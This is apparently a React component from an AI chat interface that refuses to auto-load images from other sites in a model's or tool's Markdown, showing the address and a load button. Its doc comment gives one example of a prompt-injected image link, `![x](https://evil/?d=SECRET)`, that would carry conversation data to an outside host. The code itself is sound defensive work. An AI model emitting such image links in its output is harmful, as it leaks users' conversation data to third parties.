import { useState } from 'react';
import { ImageIcon } from '../icons.tsx';

/** Whether an address is this app's own origin (the conversation's files): only those load by themselves. */
export function isOwnOrigin(src: string, origin = window.location.origin): boolean {
  try {
    return new URL(src, origin).origin === origin;
  } catch {
    return false;
  }
}

/**
 * An image in a model's or tool's Markdown. One from another site is not fetched: its address can carry
 * conversation data out (a prompt-injected `![x](https://evil/?d=SECRET)`), so a placeholder shows the full
 * address and the user decides. The page's CSP may still refuse it (images from this origin only): then it
 * says so and offers the address as a link, opened in a new tab without a referrer.
 */
export function MarkdownImage({ src, alt }: { src?: string; alt?: string }) {
  const [chosen, setChosen] = useState(false);
  const [failed, setFailed] = useState(false);
  if (!src) return alt ? <span className="image-alt">{alt}</span> : null;
  if (isOwnOrigin(src)) return <img className="markdown-image" src={src} alt={alt ?? ''} />;
  if (chosen && !failed)
    return <img className="markdown-image" src={src} alt={alt ?? ''} onError={() => setFailed(true)} />;
  return (
    <span className="blocked-image">
      <span className="blocked-image-head">
        <ImageIcon />
        <span>
          {failed ? 'This image could not be loaded here' : 'Image from another site, not loaded'}
          {alt ? `: ${alt}` : ''}
        </span>
      </span>
      <code className="blocked-image-url">{src}</code>
      {failed ? (
        <span className="blocked-image-note">
          This page only shows images from this server.{' '}
          <a href={src} target="_blank" rel="noopener noreferrer">
            Open it in a new tab
          </a>
        </span>
      ) : (
        <span className="blocked-image-note">
          Loading it sends this address to that site.{' '}
          <button type="button" onClick={() => setChosen(true)}>
            Load image
          </button>
        </span>
      )}
    </span>
  );
}
